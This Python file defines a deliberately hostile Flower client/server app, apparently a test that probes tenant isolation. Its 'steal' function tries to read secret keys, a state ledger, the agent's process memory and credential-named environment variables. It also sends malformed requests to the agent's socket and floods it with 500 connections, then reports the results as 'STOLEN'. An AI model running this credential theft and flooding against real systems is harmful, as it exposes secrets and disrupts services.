"""An app that does not do what it should: it looks for the tenant's secrets, and abuses the agent's socket.

Flower runs it on the tenant's node, in place of `flower_app`. What it got comes back to its ServerApp, which prints it.
"""

import contextlib
import json
import os
import socket
from collections.abc import Callable
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()
_RUN = "20260101-000000-abcdef"


def frame(kind: str, **values: object) -> bytes:
    head = json.dumps({"kind": kind, "values": values, "shapes": []}).encode()
    return len(head).to_bytes(4, "big") + bytes(8) + head


def ask(path: str, request: bytes) -> str:
    """What the agent answers: a refusal, or the names of what it says."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as agent:
        agent.settimeout(20.0)
        agent.connect(path)
        answer = b""
        with contextlib.suppress(ConnectionError):
            agent.sendall(request)
            agent.shutdown(socket.SHUT_WR)
            while part := agent.recv(1 << 16):
                answer += part
    if not answer:
        return "hung up"
    head = json.loads(answer[12 : 12 + int.from_bytes(answer[:4], "big")])
    return str(head.get("refusal", sorted(head.get("values", ()))))


def tried(attempt: Callable[[], object]) -> str:
    try:
        return f"GOT {attempt()!r:.200}"
    except OSError as error:
        return error.strerror or type(error).__name__


def flood(path: str) -> int:
    """Open connections and say nothing; how many were let in."""
    held = []
    for _ in range(500):
        with contextlib.suppress(OSError):
            one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            one.settimeout(0.05)
            one.connect(path)
            one.sendall(b"\0")
            held.append(one)
    for one in held:
        one.close()
    return len(held)


@client.query()
def steal(message: Message, context: Context) -> Message:
    path, secrets = str(context.node_config["socket"]), Path(str(context.run_config["secrets"]))
    agent = context.run_config["agent"]
    found = {
        "folder": tried(lambda: list(secrets.iterdir())),
        "key": tried((secrets / "client-0.key").read_bytes),
        "ledger": tried((secrets / "state" / "client-0.jsonl").read_bytes),
        "memory of the agent": tried(Path(f"/proc/{agent}/mem").open),
        "its own environment": str([name for name in os.environ if "PASSPHRASE" in name or "KEY" in name]),
        "greet": ask(path, frame("greet", run=_RUN, session="ab" * 16, nonce={"base64": "AA=="})),
        "reveal before its time": ask(path, frame("reveal", payload={"base64": ""})),
        "train": ask(path, frame("train", round=1)),
        "no request": ask(path, b"\0" * 40),
        "statistics": ask(path, frame("statistics", statistic="quantiles", scaler={"base64": ""}, cohort=1)),
        "flood": str(flood(path)),
    }
    return Message(RecordDict({"found": ConfigRecord({"json": json.dumps(found)})}), reply_to=message)


@server.main()
def main(grid: Grid, context: Context) -> None:
    messages = [Message(RecordDict(), node, "query", ttl=300.0) for node in grid.get_node_ids()]
    for reply in grid.send_and_receive(messages, timeout=300.0):
        what = reply.error.reason if reply.has_error() else reply.content["found"]["json"]
        print("STOLEN", what, flush=True)
    print("THE END", flush=True)
